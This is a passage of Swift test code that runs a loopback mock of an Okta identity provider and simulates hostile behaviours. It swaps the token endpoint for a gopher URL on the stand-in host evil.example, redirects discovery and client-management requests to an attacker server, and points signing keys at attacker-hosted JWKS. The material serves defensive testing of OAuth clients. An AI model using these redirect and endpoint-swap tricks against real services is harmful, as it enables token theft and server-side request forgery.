                JSONMember(key: "echo", value: .string(r.bodyText)),
            ])).compactText
            return .json(401, json, headers: [("WWW-Authenticate", "Basic realm=\"\(r.header("Authorization") ?? "")\"")])
        }
        if r.path.hasSuffix("/.well-known/openid-configuration") {
            var doc = OktaStandIn.discovery(issuer: base, base: "\(base)/oauth2")
            if case .gopherEndpoints = mode {
                doc = doc.replacingOccurrences(of: "\"token_endpoint\":\"\(base)/oauth2/v1/token\"", with: "\"token_endpoint\":\"gopher://evil.example:70/1token\"")
            }
            return .json(200, doc)
        }
        if r.path.hasPrefix("/oauth2/v1/clients/") || r.path.hasPrefix("/api/v1/apps/") {
            return .json(200, #"{"client_id":"\#(HostileScenario.clientID)","token_endpoint_auth_method":"none","application_type":"browser","jwks_uri":"\#(base)/keys"}"#)
        }
        if r.path == "/keys" || r.path == "/client-keys.json" { return .json(200, OktaStandIn.jwks) }
        return .json(200, "{}")
    }

    static func orgAnswer(_ r: LoopbackHTTPServer.Request, base: String, attacker: String, mode: HostileScenario.OrgBehaviour) -> LoopbackHTTPServer.Reply {
        switch mode {
        case .standIn: break
        case .redirectsManagementToAttacker where r.path.hasPrefix("/oauth2/v1/clients/") || r.path.hasPrefix("/api/v1/apps/"):
            return .respond(status: 302, headers: [("Location", attacker + r.target)], body: [])
        case .redirectsDiscoveryToAttacker where r.path.hasSuffix("/.well-known/openid-configuration"):
            return .respond(status: 302, headers: [("Location", attacker + r.target)], body: [])
        case .registrationKeysAtAttacker:
            var options = OktaStandIn.Options()
            options.clientsAPIHasJWKS = false
            options.hostedJWKSURI = true
            let answer = OktaStandIn.answer(r, base: base, options: options)
            guard case .respond(let status, let headers, let body) = answer else { return answer }
            let text = String(decoding: body, as: UTF8.self).replacingOccurrences(of: "\(base)/client-keys.json", with: "\(attacker)/client-keys.json")
            return .respond(status: status, headers: headers, body: Array(text.utf8))
        default: break
        }
        return OktaStandIn.answer(r, base: base, options: OktaStandIn.Options())
    }
}
